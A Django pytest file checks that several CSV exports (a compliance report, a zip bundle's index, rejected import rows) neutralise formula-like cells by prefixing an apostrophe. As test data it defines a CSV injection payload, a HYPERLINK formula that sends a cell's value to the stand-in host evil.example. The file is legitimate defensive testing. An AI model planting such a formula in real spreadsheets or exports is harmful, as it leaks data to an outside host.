"""Every CSV the app hands out shows a cell that starts like a formula as text, so a name or a
file name such as =HYPERLINK(...) never runs when a spreadsheet opens the file. The contacts
export and `find_duplicates` have their own tests (contacts/tests/test_export.py,
contacts/tests/test_find_duplicates.py); these are the other files."""

import csv
import datetime
import io
import zipfile

import pytest
from django.utils import timezone

from activity.models import EventType
from activity.services import record_event
from contacts.models import ImportBatch, ImportNoteKind, ImportRowNote, ImportStatus
from contacts.tests.factories import ContactFactory, UserFactory, admin_user
from documents.services import build_bundle, request_bundle
from documents.tests.factories import make_document

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_compliance_report(client):
    client.force_login(UserFactory())
    contact = ContactFactory()
    record_event(event_type=EventType.NOTE, description=FORMULA, contact_id=contact.pk)
    today, day = timezone.localdate(), datetime.timedelta(days=1)
    report = {"date_from": today - day, "date_to": today + day, "format": "csv"}
    response = client.get(f"/activity/contacts/{contact.pk}/compliance-report/", report)
    assert response.status_code == 200
    cells = [cell for row in rows(b"".join(response.streaming_content)) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_the_index_of_a_download_all_zip():
    user = UserFactory()
    contact = ContactFactory()
    make_document(contact, name="=1+2.pdf")
    bundle = request_bundle(contact=contact, user=user, base_url="http://testserver/").bundle
    bundle = build_bundle(bundle_id=bundle.pk, base_url="http://testserver/")
    with bundle.file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        index = rows(archive.read("index.csv"))
    cells = [cell for row in index[1:] for cell in row]
    assert "'=1+2.pdf" in cells and "=1+2.pdf" not in cells


def test_the_rejected_rows_of_an_import(client):
    client.force_login(admin_user())
    batch = ImportBatch.objects.create(
        original_name="clients.csv", status=ImportStatus.DONE, headers=["First name"], mapping=["first_name"]
    )
    ImportRowNote.objects.create(batch=batch, line=2, kind=ImportNoteKind.ERROR, values=[FORMULA], reason="-2+3")
    response = client.get(f"/settings/import/{batch.pk}/rejected.csv")
    assert response.status_code == 200
    assert rows(b"".join(response.streaming_content))[1] == ["2", "'" + FORMULA, "'-2+3"]
